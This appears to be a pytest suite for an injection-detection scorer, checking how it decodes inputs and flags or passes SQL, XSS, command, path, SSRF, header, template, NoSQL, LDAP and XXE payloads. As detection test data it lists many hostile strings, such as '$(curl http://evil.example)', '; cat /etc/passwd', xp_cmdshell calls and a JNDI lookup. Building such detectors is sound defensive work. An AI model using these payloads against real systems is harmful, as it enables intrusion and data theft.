"""The scorer: what each kind finds, what looks like it and passes, and that it never breaks."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headgate.security.injection import KINDS, THRESHOLD, score, sql_shapes
from headgate.security.injection.decode import ROUNDS, forms, percent_decoded, undo, unwrapped
from headgate.security.injection.html import tags, tags_in_quotes
from headgate.security.injection.sql import find_sql
from headgate.security.injection.sql_lexer import lex

# -- decoding -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("coded", "plain"),
    [
        ("%27%20or", "' or"),
        ("%u0027", "'"),
        ("&#39; &lt;b&gt;", "' <b>"),
        ("\\u003cb\\x3e", "<b>"),
        ("\\u{3c}b", "<b"),
        ("%c0%af", "/"),
        ("%e0%80%af", "/"),
        ("%c1%9c", "\\"),
        ("+ADw-b+AD4-", "<b>"),
        ("\uff1cb\uff1e", "<b>"),
        ("%E4%BD%A0", "\u4f60"),
        ("100% sure", "100% sure"),
        ("%zz", "%zz"),
    ],
)
def test_one_layer_is_undone(coded, plain):
    assert undo(coded) == plain


def test_plus_is_a_space_only_in_forms():
    assert percent_decoded("a+b%20c", plus=True) == "a b c"
    assert percent_decoded("a+b%20c") == "a+b c"


def test_mixed_layers_are_undone_in_turn():
    assert "<script>" in list(forms("%2526lt;script%2526gt;"))


def test_there_are_few_forms_however_often_a_text_is_wrapped():
    text = "'" + "".join(f"%25{i}" for i in range(500))
    for _ in range(20):
        text = text.replace("%", "%25")
    assert len(list(forms(text))) <= ROUNDS + 8


def test_base64_is_opened_only_where_it_is_readable():
    assert unwrapped("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==") == "<script>alert(1)</script>"
    assert unwrapped("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ") is None
    assert score("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==").kind == "xss"


# -- SQL ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("1 or 1=1", "nLnCn"),
        ("' or 'a'='a", "swsw"),
        ("sleep(5)", "D(n)"),
        ("time.sleep(5)", "w.f(n)"),
        ("/*!50000union*/ select", "US"),
        ("un/**/ion", "ww"),
        ("1e0union", "nU"),
        ("a --b", "w-"),
        ("a -- b\n or 1", "wLn"),
        ("'it''s' x", "sw"),
        ("'a\\'b' x", "sw"),
        ("N'x' 0x41 @@v [a b] `c`", "snvww"),
    ],
)
def test_tokens(text, kinds):
    assert "".join(token.kind for token in lex(text)) == kinds


@pytest.mark.parametrize(
    "text",
    [
        "' or 1=1--", "admin'--", "1 union select 1,2", "1;drop table users", "x' and sleep(5)#",
        "') or ('a'='a", '" or ""="', "1 and (select 1 from users)=1", "' order by 3--", "1' || '1'='1",
        "1 or 1=1 /* x", "';exec xp_cmdshell 'dir'--", "1;waitfor delay '0:0:5'",
        "1a union (select id from users limit 1,1)", "1::real union select * from users",
        "-(1) is not unknown having 1 union select name from users limit 1", "x'1' union select 1",
        "1;print 'a'; exec xp_cmdshell 'dir'", "x'; set a=1; drop table users--", "x'; shutdown;",
        "1'+(select a where 1=1 and 2=(select count(*) from users t1))+'", "1';begin user_lock.sleep(5); end--",
        "1';select like('abc',upper(hex(randomblob(500000000/2)))) and 'a'='a",
    ],
)  # fmt: skip
def test_values_that_go_on_in_sql_are_found(text):
    hit = find_sql(text)
    assert hit is not None and hit.score >= THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien", "select ... from the menu", "drop table reservations", "rock 'n' roll and 5 others",
        "6'2\" or 6'3\"", "it's 5 o'clock; select your poison", "'to be' -- Shakespeare",
        "SELECT name FROM users WHERE id = 5", "x == '' or y == ''", "1 or 2 people", "and 1",
        "if len(x) > 1 and abs(y) < 2:", "a' b or c", "student union select committee",
        "the union selects a leader; select one from the list", "jobs union: select members only",
        "Can I union select two columns from tables?", "select; then drop table saw; and more",
        "foo bar'# baz", '"LIKE" STAMP', "exec@shop.example", "select (item where all agree)",
        "x = load(f); if (strcmp(a, b) != 0) r = 1; free(x);", "teachers'# twelve of them",
    ],
)  # fmt: skip
def test_names_prose_and_programs_pass(text):
    hit = find_sql(text)
    assert hit is None or hit.score < THRESHOLD


# -- pages --------------------------------------------------------------------------------------


def test_tags_are_found_as_browsers_find_them():
    assert [tag.name for tag in tags("a < b <3 <- <b>x</b><IMG/src=x><a")] == [
        "b",
        "/b",
        "img",
        "a",
    ]
    tag = next(tags("<a href = 'x y' b=c/d e>"))
    assert dict(tag.attributes) == {"href": "x y", "b": "c/d", "e": ""}


def test_a_tag_in_quotes_is_seen_both_ways():
    text = '<img alt="<" onerror=alert(1)>'
    assert any("onerror" in dict(tag.attributes) for tag in tags_in_quotes(text))
    assert score(text).kind == "xss"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<svg/onload=alert(1)>", "xss"),
        ("java\tscript:alert(1)", "xss"),
        ("\" onfocus=alert(1) autofocus x=\"", "xss"),
        ("';alert(1)//", "xss"),
        ("../../../etc/passwd", "path"),
        ("..%2f..%2f..%2fetc%2fpasswd", "path"),
        ("; cat /etc/passwd", "command"),
        ("$(curl http://evil.example)", "command"),
        ("cmd=127.0.0.1 && ls /etc", "command"),
        ("|/usr/bin/id|", "command"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("http://0x7f.1/", "ssrf"),
        ("x\r\nSet-Cookie: a=b", "header"),
        ("x\r\nRCPT TO: <x@evil.example>\r\n", "header"),
        ("{{7*7}}", "template"),
        ("${jndi:ldap://evil.example/a}", "template"),
        ('{"$gt": ""}', "nosql"),
        ("*)(uid=*))(|(uid=*", "ldap"),
        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "xml"),
    ],
)  # fmt: skip
def test_each_kind_is_named(text, kind):
    found = score(text)
    assert found.score >= THRESHOLD
    assert found.of(kind) >= THRESHOLD
    assert not found.hits or found.hits[0].score == found.score


@pytest.mark.parametrize("kind", KINDS)
def test_a_kind_that_is_off_finds_nothing(kind):
    texts = ("' or 1=1--<script>alert(1)</script>", "; cat /etc/passwd", "../../../etc/passwd",
             "{{7*7}}", "http://169.254.169.254/", '{"$gt":1}', "a\r\nSet-Cookie: x=1", "*)(uid=*))(|(uid=*")  # fmt: skip
    for text in texts:
        assert score(text, frozenset(KINDS) - {kind}).of(kind) == 0


@pytest.mark.parametrize(
    "text",
    [
        "a <b>bold</b> word", "if (a<b && c>d)", "<3", "use the <script> tag", "online=true",
        '<a href="https://example.com">x</a>', '<svg width="1"><path d="M0"/></svg>',
        "<Button onClick={() => setCount(n + 1)}>", "{{ user.name }}", "${HOME}/bin",
        "ps aux | grep nginx", "see ../docs/readme.md", "http://localhost:3000/callback",
        "data:image/png;base64,iVBORw0KGgo=", "query { user(id: 1) { name } }", "5'10\"",
    ],
)  # fmt: skip
def test_what_only_looks_like_it_passes(text):
    assert score(text).score < THRESHOLD


# -- anything -----------------------------------------------------------------------------------

_ATOMS = [
    "'",
    '"',
    "`",
    "<",
    ">",
    "=",
    "(",
    ")",
    ";",
    "--",
    "#",
    "/*",
    "*/",
    "%",
    "%27",
    "%2527",
    "&",
    "&lt;",
    "&#x3c;",
    "\\u003c",
    "\\",
    "or",
    "and",
    "union",
    "select",
    "from",
    "1",
    "a",
    "sleep(",
    "<script",
    "onload=",
    "javascript:",
    "../",
    "|",
    "&&",
    "$(",
    "{{",
    "}}",
    "${",
    "\x00",
    "\n",
    "\r\n",
    "@@",
    ",",
    ".",
    "[",
    "]",
    "{",
    "}",
    "http://",
    "0x",
    "+",
    "+ADw-",
    "case",
    "when",
    "/*!",
    "<!--",
    "<!",
    "]]>",
    "on",
    "＜",  # noqa: RUF001
    "¼",
    "😀",
    "�",
    "||",
    ":=",
    "drop",
    "table",
    "exec",
]


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=60), st.lists(st.sampled_from(_ATOMS), max_size=25).map(" ".join),
                 st.lists(st.sampled_from(_ATOMS), max_size=25).map("".join)))  # fmt: skip
def test_no_text_breaks_it_and_scores_stay_in_bounds(text):
    found = score(text)
    assert 0 <= found.score <= 10
    for hit in found.hits:
        assert hit.kind in KINDS and len(hit.fingerprint) < 120
    assert score(text) == found


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(_ATOMS), min_size=1, max_size=5), st.booleans())
def test_tokens_looked_at_grow_with_the_text_and_no_faster(atoms, spaced):
    unit = (" " if spaced else "").join(atoms)
    counts = []
    original = lex
    for times in (20, 40, 80):
        looked = 0

        def counting(text, start=0):
            nonlocal looked
            for token in original(text, start):
                looked += 1
                yield token

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sql_shapes, "lex", counting)
            score(unit * times)
        counts.append((looked, len(unit) * times))
    for looked, length in counts:
        # Each of a few forms is read three to five times.
        assert looked <= 5 * (ROUNDS + 5) * (length + 2)


@pytest.mark.parametrize(
    "unit",
    ["a", "'", '"', "<a ", "<", "a=", "' or ", "/*", "(", "&", ";", "|", "//", "../", "\r\n", "{{",
     "+A", "%25", "\\x41", "select ", "1,", "f(", "on", "<a b=\"", "$(", "a;b", "${a", "--", "-- \n"],
    ids=lambda unit: f"u{sum(map(ord, unit))}-{len(unit)}",
)  # fmt: skip
def test_long_repetitions_end(unit):
    # Quadratic work on a quarter of a megabyte would outlast the limit of the test run.
    score(unit * (250_000 // len(unit)))


def test_an_attack_behind_very_many_tags_is_still_seen():
    assert score("<b>x</b>" * 3000).score < THRESHOLD
    assert score("<b>x</b>" * 3000 + "<script>alert(1)</script>").kind == "xss"
    assert score("<b>x</b>" * 3000 + "<img src=x onerror=alert(1)>").kind == "xss"


def test_an_expression_without_end_is_an_attack_in_itself():
    assert score("'" + " + 1" * 5000).score >= THRESHOLD
    assert score(", ".join(str(each) for each in range(5000))).score < THRESHOLD
